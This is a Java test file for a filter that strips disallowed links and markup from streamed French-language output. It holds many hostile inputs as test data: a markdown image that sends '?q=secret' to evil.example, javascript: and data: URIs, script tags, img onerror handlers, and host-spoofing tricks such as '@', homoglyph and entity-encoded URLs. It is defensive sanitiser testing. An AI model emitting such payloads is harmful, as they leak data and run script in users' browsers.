package fr.archireg.orchestrator.output;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

final class MarkupFilterTest {
    private static final LinkPolicy LINKS =
            LinkPolicy.of(
                    Set.of("legifrance.gouv.fr", "service-public.fr"),
                    List.of("https://plu.exemple.fr/reglement.pdf", "urn:nothing", "::"));

    /** What of any reader's syntax leads to a host that is not allowed. */
    private static final Pattern EVIL =
            Pattern.compile(
                    "(?i)(?:[a-z]+:|^|\\s|[(<\\[\"'])[/\\\\]{2}[^\\s)\\]>]*evil|(?<![a-z0-9])www\\.evil|]\\([^ ]|(?<![a-z])javascript:\\S|data:text|!\\[[^0-9]|<[a-z/!?]");

    private static final Pattern KEPT =
            Pattern.compile("https://www\\.legifrance\\.gouv\\.fr/[^\\s<>\"`|)\\]»”!\\[]*");

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            textBlock =
                    """
                    ![alt](https://evil.example/a.png?q=secret)            | alt
                    ![alt](https://legifrance.gouv.fr/a.png)               | alt
                    ![alt][ref] suite                                      | alt suite
                    ![alt] suite                                           | alt suite
                    ![](https://evil.example/a)x                           | x
                    ![a (b) c](https://evil.example/(x)y "t")z             | a (b) cz
                    ![a](<https://evil.example/a b>)z                      | az
                    ![a [b] c](https://evil.example)z                      | a [b] cz
                    [![alt](https://evil.example/i)](https://evil.example) | [alt] (lien retiré)
                    Attention ![1] suite                                   | Attention ![1] suite
                    Attention![1](https://evil.example)                    | Attention1
                    [texte](https://evil.example/?q=secret)                | [texte] (lien retiré)
                    [texte](https://evil.example "titre")                  | [texte] (lien retiré "titre")
                    [texte](<https://evil.example>)                        | [texte] (lien retiré>)
                    [texte](//evil.example)                                | [texte] (lien retiré)
                    [texte](/\\\\evil.example)                             | [texte] (lien retiré)
                    [texte]( https://evil.example )                        | [texte] (lien retiré )
                    [texte](https://legifrance.gouv.fr@evil.example/)      | [texte] (lien retiré)
                    [texte](https://legifrance.gouv.fr:8080/)              | [texte] (lien retiré)
                    [texte](https://legifrance.gouv.fr&#64;evil.example)   | [texte] (lien retiré)
                    [texte](https://legifrance.gouv.fr\\@evil.example)     | [texte] (lien retiré)
                    [texte](https://legifrance.gouv.fr.evil.example)       | [texte] (lien retiré)
                    [texte](https://evillegifrance.gouv.fr)                | [texte] (lien retiré)
                    [texte](https://lеgifrance.gouv.fr)                    | [texte] (lien retiré)
                    [texte](https:evil.example)                            | [texte] (lien retiré)
                    [texte](javascript:alert(1))                           | [texte] (lien retiré)
                    [texte](JaVaScRiPt:alert(1))                           | [texte] (lien retiré)
                    [texte](data:text/html;base64,PHM+)                    | [texte] (lien retiré)
                    [texte](vbscript:x)                                    | [texte] (lien retiré)
                    [texte](mailto:a@evil.example?body=x)                  | [texte] (lien retiré)
                    [texte](java&#115;cript:alert(1))                      | [texte] (java&amp;#115;cript:alert(1))
                    [texte](&#106;avascript:alert(1))                      | [texte] (&amp;#106;avascript:alert(1))
                    [1](voir le texte)                                     | [1] (voir le texte)
                    [1](R. 421-9)                                          | [1] (R. 421-9)
                    [1](modifié : 2015)                                    | [1] (modifié : 2015)
                    [texte][1] et [1]: https://evil.example                | [texte][1] et [1] : https: (lien retiré)
                    [1]: <https://evil.example> "t"                        | [1] : ‹https: (lien retiré)> "t"
                    [1]: Code de l'urbanisme                               | [1] : Code de l'urbanisme
                    [1]: //evil.example                                    | [1] :  (lien retiré)
                    [1]: https\\://evil.example/x                          | [1] : https\\: (lien retiré)
                    [1]: https:\\/\\/evil.example/x                        | [1] : https: (lien retiré)
                    <https://evil.example/x>                               | ‹https: (lien retiré)>
                    <a href="https://evil.example">x</a>                   | ‹a href="https: (lien retiré)">x‹/a>
                    <img src=//evil.example/x onerror=alert(1)>            | ‹img src=//evil.example/x onerror=alert(1)>
                    <script>alert(1)</script>                              | ‹script>alert(1)‹/script>
                    <!-- x --><?php ?>                                     | ‹!-- x -->‹?php ?>
                    &lt;script&gt; et &#60;b&#62; et &colon;               | &lt;script&gt; et &amp;#60;b&amp;#62; et &amp;colon;
                    Voir https://evil.example/x.                           | Voir https: (lien retiré).
                    Voir HTTPS://EVIL.EXAMPLE/x, puis                      | Voir HTTPS: (lien retiré), puis
                    (https://evil.example/x) fin                           | (https: (lien retiré)) fin
                    ftp://evil.example/x fin                               | ftp: (lien retiré) fin
                    www.evil.example/x fin                                 | www (lien retiré) fin
                    xhttps://legifrance.gouv.fr fin                        | xhttps: (lien retiré) fin
                    javascript:alert(f(1)) fin                             | javascript (lien retiré) fin
                    data:text/html,x fin                                   | data (lien retiré) fin
                    https://[::1]/x fin                                    | https: (lien retiré)]/x fin
                    https://127.0.0.1/x fin                                | https: (lien retiré) fin
                    http://legifrance。gouv.fr/x fin                       | http: (lien retiré) fin
                    """)
    void makesHarmless(String text, String expected) {
        assertThat(filtered(text)).isEqualTo(expected);
    }

    @ParameterizedTest
    @MethodSource("kept")
    void leavesAsItIs(String text) {
        assertThat(filtered(text)).isEqualTo(text);
    }

    static Stream<String> kept() {
        return Stream.of(
                "L'article R. 421-9 [1], [2][3] et [4, 5] : oui !",
                "Voir [le texte](https://www.legifrance.gouv.fr/codes/article_lc/LEGIARTI000006815131?a=b&c=d#e).",
                "[x](https://legifrance.gouv.fr \"Titre\") et [y](<https://service-public.fr/a>)",
                "Source : https://www.service-public.fr/particuliers/vosdroits/F31487.",
                "<https://www.legifrance.gouv.fr/x> et http://LEGIFRANCE.gouv.fr/",
                "www.legifrance.gouv.fr/x ou https://www.legifrance.gouv.fr.",
                "[1]: https://www.legifrance.gouv.fr/codes \"Code\"",
                "Le [règlement](https://plu.exemple.fr/autre?x=1).",
                "a < b, 3 <5, x <= y && z; R&D; AT&T &amp; cie &nbsp;!",
                "Open data: les données. javascript: un langage. mailto : rien",
                "10 m²/habitant, et/ou, 24h/24 ; // commentaire ; C:\\dossier\\x",
                "# Titre\n\n- **gras** _italique_ `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |",
                "«\u00A0Texte\u202F!\u00A0» l’œuvre — 20\u202F000\u00A0€ \uD83C\uDFE0 [sic] [voir ci-dessus]",
                "!",
                "[",
                "]",
                "<",
                "&",
                ":",
                "www",
                "[1",
                "tout [1");
    }

    @Test
    void isTheSameWhereverTheTextIsCut() {
        Stream.concat(kept(), attacks().stream())
                .forEach(text -> {
                    String whole = filtered(text);
                    for (int cut = 0; cut <= text.length(); cut++) {
                        assertThat(filtered(text.substring(0, cut), text.substring(cut)))
                                .as("%s cut at %d", text, cut)
                                .isEqualTo(whole);
                    }
                    assertThat(filtered(text.split("(?<=.)(?s)", -1))).isEqualTo(whole);
                });
    }

    @Test
    void letsNothingThroughThatLeadsElsewhereHoweverItIsMixed() {
        long seed = System.nanoTime();
        Random random = new Random(seed);
        List<String> attacks = attacks();
        List<String> between =
                List.of(
                        "", " ", "\n", "[", "](", "![", "]", "(", ")", "<", "&", "\\", ":", "a",
                        "\u200B");
        for (int round = 0; round < 3_000; round++) {
            StringBuilder text = new StringBuilder();
            for (int i = 0; i < 4; i++) {
                text.append(attacks.get(random.nextInt(attacks.size())))
                        .append(between.get(random.nextInt(between.size())));
            }

            String shown = filtered(text.toString());

            String besidesKept = KEPT.matcher(shown).replaceAll(" ");
            assertThat(EVIL.matcher(besidesKept).find())
                    .as("seed %d round %d: %s became %s", seed, round, text, shown)
                    .isFalse();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Le délai d'instruction est de deux mois",
                "Attention, les conditions suivantes",
                "d",
                "https",
                "conditions : ",
                "h",
                "l’œuvre",
                "(ht",
            })
    void passesPlainTextOnAtOnce(String piece) {
        MarkupFilter filter = new MarkupFilter(LINKS);

        assertThat(filter.accept(piece)).isEqualTo(piece);
        assertThat(filter.finish()).isEmpty();
    }

    @Test
    void holdsBackOnlyUntilAConstructIsDecided() {
        MarkupFilter filter = new MarkupFilter(LINKS);

        assertThat(filter.accept("Oui [1]")).isEqualTo("Oui [1");
        assertThat(filter.accept(", voir [x](https://www.legifrance")).isEqualTo("], voir [x");
        assertThat(filter.accept(".gouv.fr/cod")).isEqualTo("](https://www.legifrance.gouv.fr/cod");
        assertThat(filter.accept("es) ")).isEqualTo("es) ");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[",
                "![",
                "]",
                "](",
                "![a](",
                "<",
                "<a",
                "&",
                "&#",
                "&a",
                ":",
                "://",
                "//",
                "www.",
                "https://",
                "https://a",
                "[a](https://",
                "[a]:",
                "data:",
                "data:a",
                "javascript:",
                "](h",
                "]:h",
                "!",
                "\\",
                "[a](a",
                "www.a",
                "\u202E",
                "\uDB40\uDC41",
                "\uD83C"
            })
    void readsHostileTextInLinearTimeAndHoldsLittleBack(String piece) {
        MarkupFilter filter = new MarkupFilter(LINKS);
        int shown = 0;
        int pieces = 200_000 / piece.length();

        // Quadratic time would run into the time limit of every test.
        for (int i = 0; i < pieces; i++) {
            shown += filter.accept(piece).length();
        }
        String rest = filter.finish();

        assertThat(rest.length()).isLessThan(400);
        assertThat(shown).isGreaterThanOrEqualTo(0);
    }

    @Test
    void leavesOutWhatTurnsOrHidesText() {
        assertThat(filtered("a\u202Eb\u2066c\u200Bd\u0000e\u0007\uDB40\uDC41f\n\tg"))
                .isEqualTo("abcdef\n\tg");
    }

    private static List<String> attacks() {
        return List.of(
                "![alt](https://evil.example/a.png?q=secret)",
                "![alt][ref]",
                "[![alt](https://evil.example/i)](https://evil.example)",
                "[texte](https://evil.example/?q=secret)",
                "[texte](<https://evil.example>)",
                "[texte](//evil.example)",
                "[texte](https://legifrance.gouv.fr@evil.example/)",
                "[texte](https://legifrance.gouv.fr\\@evil.example)",
                "[texte](javascript:alert(1))",
                "[texte](data:text/html;base64,PHM+)",
                "[texte][1]\n\n[1]: https://evil.example",
                "[1]:\n  <https://evil.example> \"t\"",
                "[1]: https:\\/\\/evil.example/x",
                "<https://evil.example/x>",
                "<a href=\"https://evil.example\">x</a>",
                "<img src='https://evil.example/x' onerror=alert(1)>",
                "<script src=https://evil.example></script>",
                "Voir https://evil.example/x.",
                "HTTPS://EVIL.EXAMPLE/x",
                "ftp://evil.example/x",
                "www.evil.example/x",
                "&#104;ttps://evil.example/x",
                "https&colon;//evil.example/x",
                "javascript:alert(1)",
                "[x](https://www.legifrance.gouv.fr/a) et https://www.legifrance.gouv.fr/b?c=https://autre.example");
    }

    private static String filtered(String... pieces) {
        MarkupFilter filter = new MarkupFilter(LINKS);
        StringBuilder shown = new StringBuilder();
        for (String piece : pieces) {
            shown.append(filter.accept(piece));
        }
        return shown.append(filter.finish()).toString();
    }
}
